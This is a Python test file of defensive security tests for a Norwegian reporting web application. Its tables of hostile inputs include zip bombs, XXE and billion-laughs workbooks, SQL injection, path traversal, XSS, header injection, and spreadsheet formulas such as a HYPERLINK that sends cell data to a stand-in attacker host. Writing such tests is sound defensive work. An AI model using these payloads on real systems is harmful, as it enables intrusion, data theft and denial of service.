"""The table of attacks: files and requests that mean harm, each with the refusal that it must meet.

A refused file is told in Norwegian sentences, stores nothing, and leaves nothing of its content in the log or in the
audit log. What is text and no more is let in and made harmless where it is shown. ``docs/security.md`` points here.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable
from html import unescape
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.routing import Route

from heltid import archive, exports, intake, web
from heltid.checks import REPORTER, Actor
from heltid.exports.cells import Link
from heltid.exports.page import file_name
from heltid.findings import Grade
from heltid.forms import REPORT, SECTIONS
from heltid.founding import ensure_store
from heltid.intake import Source
from heltid.refusals import Refusals
from heltid.store import audit, history, open_reader, queries
from heltid.ui.plain import linked, plain
from heltid.vocabulary import EXAMPLE_MARK, ReportStatus, StoreKind
from tests.reading.test_kinds import BIRTH, DNUMBER, OLE, packed
from tests.reading.test_workbook import changed, sheet_of
from tests.web.asgi import Answer, get

ME = Actor("rapportør", REPORTER, frozenset({"vefsn"}))
#: Stands in every hostile file, and must be in no log.
SECRET = "HEMMELIG7731"
HEADER = "prosjekt;mål;dato;verdi;kilde\n"
ROW = f"vefsn;M1;2014;6,1;{SECRET}\n"
GOOD = (HEADER + ROW).encode()
COVER = "prosjekt;rapporttype;periode;framdrift;kort_sagt\n"
BOOK = sheet_of(["prosjekt", "mål", "dato", "verdi", "kilde"], ["vefsn", "M1", "2014", 6.1, SECRET])
SHEET, WORKBOOK, TYPES = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"


def text(rows: str, header: str = HEADER) -> bytes:
    return (header + rows).encode()


def doctype(entities: str, body: str = "&a;") -> Callable[[bytes], bytes]:
    """The sheet with a DOCTYPE, and an entity of it in a cell."""

    def change(xml: bytes) -> bytes:
        xml = xml.replace(b"<worksheet", f"<!DOCTYPE worksheet [{entities}]><worksheet".encode(), 1)
        return re.sub(rb"</sheetData>", f"<row r='3'><c t='str'><v>{body}</v></c></row></sheetData>".encode(), xml)

    return change


def added(data: bytes, member: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(member, content)
    return out.getvalue()


def declaring(size: int) -> bytes:
    """A small ZIP file whose directory says that its member is ``size`` bytes."""
    data = bytearray(packed({"a.csv": GOOD}))
    real = len(GOOD).to_bytes(4, "little")
    place = bytes(data).find(real, bytes(data).index(b"PK\x01\x02"))
    data[place : place + 4] = min(size, 0xFFFFFFFE).to_bytes(4, "little")
    return bytes(data)


def declaring_ten_gigabytes() -> bytes:
    """A ZIP64 file of a few hundred bytes whose directory says ten gigabytes, which the old directory cannot."""
    name, size, data = b"a.csv", 10 << 30, zlib.compress(GOOD)[2:-4]
    extra = struct.pack("<HHQQ", 1, 16, size, len(data))
    head = struct.pack("<HHHHHIIIHH", 45, 0, 8, 0, 33, zlib.crc32(GOOD), 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra))
    local = b"PK\x03\x04" + head + name + extra + data
    central = b"PK\x01\x02" + struct.pack("<H", 45) + head + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name + extra
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def zeros(size: int) -> bytes:
    """A member of so many zeros, made without holding them."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk, parts, total = bytes(1 << 20), [], 0
    crc = 0
    while total < size:
        parts.append(packer.compress(chunk))
        crc, total = zlib.crc32(chunk, crc), total + len(chunk)
    body = b"".join([*parts, packer.flush()])
    name = b"a.csv"
    head = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(body), total, len(name), 0)
    local = b"PK\x03\x04" + head + name + body
    central = b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def locked() -> bytes:
    data = bytearray(packed({"a.csv": GOOD}))
    data[6] |= 1
    data[bytes(data).index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, pytest.warns(UserWarning):
        archive.writestr("a.csv", GOOD)
        archive.writestr("a.csv", b"noe annet")
    return out.getvalue()


LAUGHS = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
#: What it is, the file's name, its bytes, and the rule that refuses it.
FILES: list[tuple[str, str, bytes | Callable[[], bytes], str]] = [
    # packed files
    ("zip bomb", "a.zip", lambda: packed({"a.csv": b"a;b\n" + b"0;0\n" * 1_000_000}), "mistenkelig-zip"),
    ("zip bomb in a workbook", "a.xlsx", lambda: added(BOOK, "xl/media/a.bin", bytes(4_000_000)), "mistenkelig-zip"),
    ("many megabytes of zeros", "a.zip", lambda: zeros(64 << 20), "for-stor-fil"),
    ("four gigabytes declared", "a.zip", lambda: declaring(10 << 30), "for-stor-fil"),
    ("ten gigabytes declared", "a.zip", declaring_ten_gigabytes, "for-stor-fil"),
    ("fewer bytes declared than there are", "a.zip", lambda: declaring(10), "skadet-zip"),
    ("nested zip", "a.zip", lambda: packed({"a.zip": packed({"b.csv": GOOD})}), "pakket-i-pakket"),
    ("nested zip named as a workbook", "a.zip", lambda: packed({"a.xlsx": packed({"b.csv": GOOD})}), "pakket-i-pakket"),
    ("gzip in a zip", "a.zip", lambda: packed({"a.gz": b"\x1f\x8b\x08"}), "pakket-i-pakket"),
    ("locked zip", "a.zip", locked, "passord"),
    ("two members of one name", "a.zip", twice, "skadet-zip"),
    ("a thousand members", "a.zip", lambda: packed({f"{n}.csv": b"a" for n in range(1001)}), "for-mange-filer"),
    ("zip without members", "a.zip", lambda: packed({}), "tomt-arkiv"),
    ("half a zip", "a.zip", lambda: packed({"a.csv": GOOD})[:60], "skadet-zip"),
    (
        "zip with a broken sum",
        "a.zip",
        lambda: packed({"a.csv": GOOD}).replace(b"\x01\x02", b"\x01\x03", 1),
        "skadet-zip",
    ),
    # workbooks
    (
        "external entity",
        "a.xlsx",
        lambda: changed(BOOK, SHEET, doctype('<!ENTITY a SYSTEM "file:///etc/passwd">')),
        "skadet-arbeidsbok",
    ),
    (
        "external DTD",
        "a.xlsx",
        lambda: changed(BOOK, SHEET, doctype('<!ENTITY % a SYSTEM "http://x/d">%a;', "")),
        "skadet-arbeidsbok",
    ),
    (
        "billion laughs",
        "a.xlsx",
        lambda: changed(BOOK, SHEET, doctype(f'<!ENTITY a "ha">{LAUGHS}', "&i;")),
        "skadet-arbeidsbok",
    ),
    (
        "entities in the workbook's list",
        "a.xlsx",
        lambda: changed(BOOK, WORKBOOK, lambda x: b"<!DOCTYPE a>" + x),
        "skadet-arbeidsbok",
    ),
    ("macros", "a.xlsx", lambda: added(BOOK, "xl/vbaProject.bin", OLE), "makroer"),
    ("macros in another folder", "a.xlsx", lambda: added(BOOK, "elsewhere/VBAPROJECT.BIN", OLE), "makroer"),
    ("binary workbook", "a.xlsx", lambda: packed({"xl/workbook.bin": b""}), "ikke-tabell"),
    ("old workbook", "a.xls", OLE + "Workbook".encode("utf-16-le"), "ikke-tabell"),
    ("workbook with a password", "a.xlsx", OLE + "EncryptedPackage".encode("utf-16-le"), "ikke-tabell"),
    (
        "workbook without sheets",
        "a.xlsx",
        lambda: packed({WORKBOOK: b"<workbook/>", TYPES: b"<a/>"}),
        "skadet-arbeidsbok",
    ),
    (
        "a cell in the far corner",
        "a.xlsx",
        lambda: changed(BOOK, SHEET, lambda x: x.replace(b'"A1"', b'"XFD1048576"')),
        "for-mange-rader",
    ),
    # not tables
    ("PDF named as CSV", "a.csv", b"%PDF-1.7\n" + GOOD, "ikke-tabell"),
    ("page of HTML with a script", "a.csv", b"<html><script>alert(1)</script></html>", "ikke-tabell"),
    ("SVG with a script", "a.csv", b"<svg xmlns='x'><script>alert(1)</script></svg>", "ikke-tabell"),
    ("picture", "a.csv", b"\x89PNG\r\n\x1a\n" + GOOD, "ikke-tabell"),
    ("picture that is a table too", "a.csv", b"GIF89a;\n" + GOOD, "ikke-tabell"),
    ("table with a zip behind it", "a.csv", lambda: GOOD + packed({"b.csv": GOOD}), "nul-tegn"),
    ("zip with a program before it", "a.zip", lambda: b"MZ\x90\x00" + packed({"b.csv": GOOD}), "ikke-tabell"),
    ("document that is a zip too", "a.zip", lambda: b"%PDF-1.7\n" + packed({"b.csv": GOOD}), "ikke-tabell"),
    ("program", "a.csv", b"MZ\x90\x00\x03\x00" + GOOD, "ikke-tabell"),
    ("program for Linux", "a.xlsx", b"\x7fELF\x02" + GOOD, "ikke-tabell"),
    ("database", "a.csv", b"SQLite format 3\x00" + GOOD, "ikke-tabell"),
    ("Java in a zip", "a.zip", lambda: packed({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe"}), "ikke-tabell"),
    ("document", "a.xlsx", lambda: packed({"word/document.xml": b"<w/>"}), "ikke-tabell"),
    ("JSON", "a.csv", json.dumps([{"prosjekt": "vefsn"}]).encode(), "ikke-tabell"),
    ("deep JSON", "a.csv", b"[" * 100_000, "for-lang-celle"),
    ("NUL in a cell", "a.csv", GOOD.replace(b"6,1", b"6,\x001"), "nul-tegn"),
    ("nothing but NUL", "a.csv", bytes(5_000), "nul-tegn"),
    ("nothing", "a.csv", b"", "tom-fil"),
    # too much
    ("six megabytes", "a.csv", lambda: text(ROW * 200_000), "for-stor-fil"),
    ("too many rows", "a.csv", lambda: ("a;b\n" + "1;2\n" * 50_001).encode(), "for-mange-rader"),
    (
        "too many columns",
        "a.csv",
        lambda: (";".join(f"k{n}" for n in range(101)) + "\n1\n").encode(),
        "for-mange-kolonner",
    ),
    (
        "a cell of a million characters",
        "a.csv",
        lambda: text(f"vefsn;M1;2014;6,1;{'x' * 1_000_000}\n"),
        "for-lang-celle",
    ),
    # personal data
    ("identity number", "a.csv", text(f"vefsn;M1;2014;6,1;{BIRTH}\n"), "fødselsnummer"),
    ("D-number with a space", "a.csv", text(f"vefsn;M1;2014;6,1;{DNUMBER[:6]} {DNUMBER[6:]}\n"), "fødselsnummer"),
    ("identity number in a workbook", "a.xlsx", lambda: sheet_of(["prosjekt"], [BIRTH]), "fødselsnummer"),
    # what belongs to others
    ("another project's rows", "a.csv", text("songdalen;M1;2014;6,1;\n"), "ingen-rett"),
    ("another project's rows among own", "a.csv", text(ROW + "songdalen;M1;2014;6,1;\n"), "ingen-rett"),
    ("a project that is not there", "a.csv", text("andre;M1;2014;6,1;\n"), "ukjent-prosjekt"),
    ("the register", "a.csv", b"prosjekt;navn;pulje;tema;kommuner;status\nvefsn;X;1;heltid;1824;aktiv\n", "ingen-rett"),
    (
        "one file of a zip oversteps",
        "a.zip",
        lambda: packed({"a.csv": GOOD, "b.csv": b"prosjekt;pulje;tema;kommuner;status\nvefsn;2;heltid;1824;aktiv\n"}),
        "ingen-rett",
    ),
    (
        "an assessment of oneself",
        "a.csv",
        "prosjekt;rapporttype;periode;kriterium;nivå\nvefsn;årsrapport;2013;hensikt;god\n".encode(),
        "ingen-rett",
    ),
    (
        "a day of delivery of one's own choice",
        "a.csv",
        "prosjekt;rapporttype;periode;framdrift;levert\nvefsn;årsrapport;2013;i rute;2014-01-31\n".encode(),
        "bare-sekretariatet",
    ),
    ("example figures", "a.csv", f"# {EXAMPLE_MARK}\n".encode() + GOOD, "eksempeldata"),
    # text where a key or a number should be
    ("SQL as a project", "a.csv", text("'); DROP TABLE project;--;M1;2014;6,1;\n"), "prosjekt-id"),
    ("SQL as a number", "a.csv", text("vefsn;M1;2014;6,1 OR 1=1;\n"), "tall"),
    ("a path as a project", "a.csv", text("../../etc/passwd;M1;2014;6,1;\n"), "prosjekt-id"),
    ("a script as a project", "a.csv", text("<script>alert(1)</script>;M1;2014;6,1;\n"), "prosjekt-id"),
    ("not a number", "a.csv", text("vefsn;M1;2014;nan;\n"), "tall"),
    ("without end", "a.csv", text("vefsn;M1;2014;inf;\n"), "tall"),
    ("a number of a thousand digits", "a.csv", text(f"vefsn;M1;2014;{'9' * 1_000};\n"), "tall"),
    ("a day that is not", "a.csv", text("vefsn;M1;2014-02-30;6,1;\n"), "dato-finnes-ikke"),
    ("the same row twice with two values", "a.csv", text(ROW + ROW.replace("6,1", "7,1")), "samme-rad-to-ganger"),
]


def _audited(path: Path) -> str:
    with open_reader(path) as connection:
        return repr(list(audit.entries(connection)))


def _latest(path: Path) -> audit.Entry:
    with open_reader(path) as connection:
        (line,) = audit.entries(connection, 1)
    return line


@pytest.fixture(scope="module")
def stored(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("store") / "lager.db"
    ensure_store(path, StoreKind.DOCUMENTED)
    return path


def state(path: Path) -> tuple[int, str]:
    """The data version, and all that is stored of the reports."""
    with open_reader(path) as connection:
        rows = [list(queries.rows(connection, section)) for section in SECTIONS.values()]
        return queries.version(connection), repr(rows)


#: Words that are in every Norwegian sentence that tells someone what is wrong or what to do, one or another of them.
_NORWEGIAN = re.compile(r"\b(?:er|ikke|og|i|fra|kan|skal|med|har|av|på|en|et|du|som|den|det|for)\b", re.IGNORECASE)
_INNER = ("Traceback", "Error", "Exception", "sqlite", "None", "site-packages", ".py", SECRET, BIRTH)


def assert_told(what: str, to_do: str) -> None:
    """A sentence in Norwegian that says what is wrong, and what to do; nothing of the content or of our own insides."""
    for said in (what, to_do):
        assert re.match(r"[A-ZÆØÅ«]", said) and said.endswith((".", "?", ":")), said
        assert not [word for word in _INNER if word in said], said
    assert _NORWEGIAN.search(f"{what} {to_do}"), (what, to_do)


@pytest.mark.parametrize(("name", "data", "rule"), [item[1:] for item in FILES], ids=[item[0] for item in FILES])
def test_a_hostile_file_is_refused_in_words_and_nothing_of_it_is_kept(
    stored: Path, name: str, data: bytes | Callable[[], bytes], rule: str, caplog: pytest.LogCaptureFixture
) -> None:
    made = data if isinstance(data, bytes) else data()
    before = state(stored)
    with caplog.at_level(logging.DEBUG):
        review = intake.store(stored, [Source(name, made)], ME)
    assert review.upload is None and state(stored) == before
    blocking = [finding for finding in review.findings if finding.grade >= Grade.ERROR]
    assert rule in {finding.rule for finding in blocking}
    for finding in blocking:
        assert_told(finding.message, finding.action)
    with open_reader(stored) as connection:
        (told,) = audit.entries(connection, 1)
    assert told.refused and told.what == audit.Deed.UPLOAD and told.actor == ME.name and rule in told.subject
    logged = caplog.text + _audited(stored)
    assert SECRET not in logged and BIRTH not in logged and BIRTH not in repr(review.findings)


@pytest.fixture
def store(stored: Path, tmp_path: Path) -> Path:
    path = tmp_path / "lager.db"
    shutil.copy(stored, path)
    return path


#: Text that some program would act on. It is let in as it is, and harmless wherever it comes out.
TEXTS = [
    '=HYPERLINK("http://ond.example/?"&A1;"klikk")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "'=1+1",
    "=WEBSERVICE(A1)",
    "![bilde](http://ond.example/spor.png)",
    "[klikk](javascript:alert(1))",
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</div><style>*{display:none}</style>",
    ":material/lock: $x$ **fet** `kode`",
    "{{7*7}} ${7*7} %s %n {0.__class__}",
    "'; DROP TABLE report; --",
    "faktura\u202egpj.exe",
    '#import "/etc/passwd"; #eval("1")',
]


@pytest.mark.parametrize("nasty", TEXTS)
def test_a_text_that_some_program_would_act_on_is_text_everywhere(store: Path, nasty: str) -> None:
    quoted = nasty.replace('"', '""')
    sent = text(f'vefsn;årsrapport;2013;i rute;"{quoted}"\n', COVER)
    review = intake.store(store, [Source("a.csv", sent)], ME)
    assert review.upload is not None
    with open_reader(store) as connection:
        (row,) = [row for row in queries.rows(connection, REPORT) if row[:3] == ("vefsn", "årsrapport", "2013")]
    kept = row[REPORT.names.index("summary")]
    assert kept in (nasty, nasty.removeprefix("'"))  # a mark that makes harmless is taken off
    export = exports.export_rows(store, ["report"])
    cells = [
        cell
        for line in csv.reader(io.StringIO(exports.to_csv(export, "report").decode("utf-8-sig")), delimiter=";")
        for cell in line
    ]
    assert not [cell for cell in cells if re.match(r"[=+\-@\t\r]", cell)]
    with zipfile.ZipFile(io.BytesIO(exports.to_xlsx(export))) as book:
        sheets = b"".join(book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets and b"hyperlink" not in sheets.lower()
    shown = plain(kept)
    assert "<" not in shown.replace("<br>", "")
    assert "href" not in linked(Link("x", kept)) or kept.startswith("/")
    key = ("vefsn", "årsrapport", "2013")
    packed_report = archive.archive_file(store, key)
    assert packed_report.startswith(b"PK")


#: Names that a file may be given; its content is good.
NAMES = [
    "../../etc/cron.d/x.csv",
    "..\\..\\windows\\x.csv",
    "/etc/passwd",
    "C:\\x.csv",
    "a\r\nSet-Cookie: x=1\r\n\r\n<script>.csv",
    'a"; filename="b.exe',
    "=cmd|x.csv",
    "<img src=x onerror=alert(1)>.csv",
    "faktura\u202evsc.exe",
    "a\x00.csv",
    "x" * 5_000 + ".csv",
    "",
    "con.csv",
    f"{BIRTH}.csv",
]


@pytest.mark.parametrize("name", NAMES, ids=[ascii(name)[:30] for name in NAMES])
def test_a_file_s_name_is_a_label_and_no_path(
    store: Path, tmp_path: Path, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    before = set(tmp_path.rglob("*"))
    with caplog.at_level(logging.DEBUG):
        review = intake.store(store, [Source(name, GOOD)], ME)
    assert review.upload is not None
    new = {path.name for path in set(tmp_path.rglob("*")) - before}
    assert new <= {"lager.db-wal", "lager.db-shm"}
    with open_reader(store) as connection:
        (told,) = history.uploads(connection)[0].files
    assert BIRTH not in told and BIRTH not in caplog.text
    made = file_name(f"{told}_med_funn", "", "csv")
    assert re.fullmatch(r"[\w.-]+\.csv", made) and not made.startswith(".")


def test_a_replayed_upload_stores_nothing(store: Path) -> None:
    assert intake.store(store, [Source("a.csv", GOOD)], ME).upload is not None
    before = state(store)
    again = intake.store(store, [Source("b.csv", GOOD)], ME)
    assert again.upload is None and again.seen_before and state(store) == before
    assert _latest(store).refused and _latest(store).subject == intake.REPLAYED and SECRET not in _audited(store)


def test_other_bytes_than_those_that_were_checked_are_not_stored(store: Path) -> None:
    confirmed = intake.check(store, [Source("a.csv", GOOD)], ME).fingerprint
    before = state(store)
    altered = intake.store(store, [Source("a.csv", GOOD.replace(b"6,1", b"9,9"))], ME, confirmed=confirmed)
    assert altered.upload is None and state(store) == before
    assert _latest(store).refused and _latest(store).subject == intake.NOT_CONFIRMED and SECRET not in _audited(store)


def test_a_report_that_is_gone_through_is_not_changed(store: Path) -> None:
    intake.store(store, [Source("a.csv", text("vefsn;årsrapport;2013;i rute;\n", COVER))], ME)
    intake.set_status(store, ("vefsn", "årsrapport", "2013"), ReportStatus.REVIEWED, "", Actor("sekretariatet"))
    before = state(store)
    review = intake.store(store, [Source("a.csv", text("vefsn;årsrapport;2013;stoppet;\n", COVER))], ME)
    assert review.upload is None and "låst-rapport" in {item.rule for item in review.findings}
    assert state(store) == before
    assert _latest(store).refused and "låst-rapport" in _latest(store).subject


async def _broken(_: Request) -> Response:
    raise ValueError(SECRET)


async def _taken(_: Request) -> Response:
    return PlainTextResponse("tatt imot")


UPLOAD = "/_stcore/upload_file/s/f"
#: What it is, method, address, headers, and the answer it must get.
REQUESTS: list[tuple[str, str, str, dict[str, str], int]] = [
    ("upload from another site", "PUT", UPLOAD, {"origin": "https://ond.example"}, 403),
    ("upload from a sandbox", "PUT", UPLOAD, {"origin": "null"}, 403),
    ("upload that the browser calls cross-site", "PUT", UPLOAD, {"sec_fetch_site": "cross-site"}, 403),
    ("upload from a name that begins as ours", "PUT", UPLOAD, {"origin": "http://h.ond.example"}, 403),
    ("upload from our name on another port", "PUT", UPLOAD, {"origin": "http://h:8080"}, 403),
    ("deleting from another site", "DELETE", UPLOAD, {"origin": "https://ond.example"}, 403),
    ("posting from another site", "POST", "/last-opp", {"origin": "https://ond.example"}, 403),
    ("ten gigabytes announced", "PUT", UPLOAD, {"content_length": "10737418240"}, 413),
    ("a length below zero", "PUT", UPLOAD, {"content_length": "-1"}, 413),
    ("a length of a thousand digits", "PUT", UPLOAD, {"content_length": "9" * 1_000}, 413),
    ("the server's measurements", "GET", "/_stcore/metrics", {}, 404),
    ("the server's measurements through a proxy", "GET", "/_stcore/metrics", {"x_forwarded_for": "127.0.0.1"}, 404),
    ("the library's second way in", "POST", "/_stcore/agent/interact", {}, 404),
    ("a path out of the style files", "GET", "/stil/x/..", {}, 404),
    ("a path out of the maps", "GET", "/kart/../../app.py", {}, 404),
    ("a path out of a version of the style files", "GET", "/stil/x/../../../app.py", {}, 404),
    ("a hidden file", "GET", "/stil/x/.git", {}, 404),
    ("a script in the address", "GET", f"/<script>{SECRET}</script>", {"accept": "text/html"}, 404),
    ("a line break in the address", "GET", "/x\r\nSet-Cookie: a=1", {"accept": "text/html"}, 404),
    ("SQL in the address", "GET", "/oversikt' OR '1'='1", {"accept": "text/html"}, 404),
    ("a fault in the server", "GET", "/helse-brutt", {}, 500),
]


@pytest.mark.parametrize(
    ("method", "path", "headers", "status"), [item[1:] for item in REQUESTS], ids=[item[0] for item in REQUESTS]
)
def test_a_hostile_request_is_refused_and_tells_nothing(
    stored: Path, method: str, path: str, headers: dict[str, str], status: int, caplog: pytest.LogCaptureFixture
) -> None:
    before = state(stored)
    answer, told = asked(stored, path, method, **headers)
    body = answer.body.decode()
    assert answer.status == status and state(stored) == before
    assert "tatt imot" not in body and "<script>" not in body
    assert "set-cookie" not in answer.headers
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    what, to_do = re.findall(r"<(?:h1|p)>([^<]+)", body)[:2]
    assert_told(f"{unescape(what)}.", unescape(to_do))
    if status == 500:  # a fault of ours, under the number that the visitor was told
        (number,) = re.findall(r"[0-9A-F]{8}", body)
        assert number in caplog.text
        return
    assert told is not None and told.refused and told.address == "192.0.2.5"
    assert SECRET not in repr(told) and path not in repr(told)


def asked(path: Path, address: str, method: str, **headers: str) -> tuple[Answer, audit.Entry | None]:
    """The server's answer to one request, and what the audit log was told of it."""
    refusals = Refusals(lambda: path, seconds=3_600)
    inner = [Route(UPLOAD, _taken, methods=["PUT", "DELETE"]), Route("/helse-brutt", _broken)]
    middleware = web.middleware(tell=lambda kind, _: refusals.tell(kind, "192.0.2.5"))
    answer = get(Starlette(routes=[*web.routes(), *inner], middleware=middleware), address, method, host="h", **headers)
    with open_reader(path) as connection:
        before = audit.count(connection)
    refusals.write()
    with open_reader(path) as connection:
        lines = list(audit.entries(connection, audit.count(connection) - before))
    assert len(lines) <= 1 and all(line.what == audit.Deed.REQUEST for line in lines)
    return answer, lines[0] if lines else None


def test_a_mistyped_address_is_no_attack_and_fills_no_log(stored: Path) -> None:
    answer, told = asked(stored, "/oversiktt", "GET", accept="text/html")
    assert answer.status == 404 and told is None


#: Attacks that need a provider or a code to be tried, each with the test that tries it.
ELSEWHERE = {
    "forged cookie": ("browser/test_oidc.py", "test_a_forged_cookie_opens_nothing"),
    "cookie of another server": ("web/test_logins.py", "test_any_other_cookie_is_not"),
    "expired token": ("browser/test_oidc.py", "test_a_session_ends_with_its_token"),
    "wrong audience": ("browser/test_oidc.py", "test_a_token_that_is_meant_for_another_is_refused"),
    "token for another": ("browser/test_oidc.py", "test_a_token_for_another_that_was_issued_to_us_gives_nothing"),
    "oversized websocket message": ("web/test_guards.py", "test_a_websocket_that_is_closed_is_told"),
    "websocket of another site": ("web/test_guards.py", "test_a_websocket_of_another_site_is_not_opened"),
    "guessed code": (
        "test_codes.py",
        "test_wrong_codes_make_their_own_address_and_project_wait_and_a_right_one_passes_at_once",
    ),
    "code that has ended": ("test_codes.py", "test_a_code_opens_nothing_after_its_last_day"),
    "too many checks": (
        "test_frequency.py",
        "test_a_check_that_comes_too_often_reads_nothing_and_says_how_long_to_wait",
    ),
    "too many uploads": ("test_frequency.py", "test_an_upload_that_comes_too_often_stores_nothing"),
    "too many files": ("test_frequency.py", "test_a_file_that_is_asked_for_too_often_is_a_sentence_and_not_made"),
}


@pytest.mark.parametrize(("file", "test"), ELSEWHERE.values(), ids=ELSEWHERE)
def test_an_attack_that_is_tried_elsewhere_has_its_test(file: str, test: str) -> None:
    assert f"def {test}(" in (Path(__file__).parent / file).read_text()


def test_there_are_sixty_attacks_and_more() -> None:
    assert len(FILES) >= 60 and len(FILES) + len(TEXTS) + len(NAMES) + len(REQUESTS) >= 110
